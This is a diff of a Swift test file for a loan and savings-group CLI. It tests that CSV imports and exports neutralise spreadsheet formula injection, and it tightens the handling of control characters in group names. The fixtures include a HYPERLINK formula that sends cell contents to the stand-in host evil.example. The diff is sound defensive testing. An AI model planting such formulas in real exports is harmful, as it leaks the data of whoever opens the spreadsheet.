@@ -48,17 +48,19 @@ import Testing
         try await cli.succeeds(["import", "loans", BadInput.path("csv/loans-formula-names.csv"), "--month", "2024-02"])
         // Accepted as data, stored verbatim.
         #expect(try await cli.sql("SELECT borrower_name FROM loan WHERE loan_id = '=LN-1'") == "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Bấm vào đây\")")
-        // Leading tabs and CRs are trimmed from CSV cells on import; the CLI keeps them, so two groups get theirs here.
+        // Leading tabs and CRs are trimmed from CSV cells on import; inside a name, control characters are refused
+        // everywhere (TextRule), the CLI included.
         #expect(try await cli.sql("SELECT name FROM savings_group WHERE code = 'TS-G13'") == "=1+1")
-        try await cli.succeeds(["groups", "update", "TS-G12", "--name", "\r=3+3"])
-        try await cli.succeeds(["groups", "update", "TS-G13", "--name", "\t=2+2"])
+        try await cli.refuses(["groups", "update", "TS-G12", "--name", "\r=3+3"], saying: ["--name", "U+000D"])
+        try await cli.refuses(["groups", "update", "TS-G13", "--name", "\t=2+2"], saying: ["--name", "U+0009"])
+        try await cli.succeeds(["groups", "update", "TS-G12", "--name", "+3+3"])
         try await cli.succeeds(["evaluate", "--month", "2024-02"])
         try await cli.succeeds(["plan", "set", "--year", "2024", "--outstanding", "1000M"])
 
         let commune = "'=HYPERLINK(\"\"http://evil.example/?c=\"\"&A1"
         let exports: [(arguments: [String], neutralised: [String])] = [
             (["fees", "--month", "2024-02"], ["'@SUM(1+1) Hội Nông dân xã Tân Sơn", "'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1",
-                                              "\"'\r=3+3\"", "'\t=2+2"]),
+                                              "'+3+3"]),
             (["report", "district", "--month", "2024-02"], [commune]),
             (["report", "commune", "--month", "2024-02"], [commune]),
             (["report", "association", "--month", "2024-02"], [commune, "'-2+3 Phòng giao dịch Kim Bang", "'+1+1 Chi nhánh Hà Nam"]),
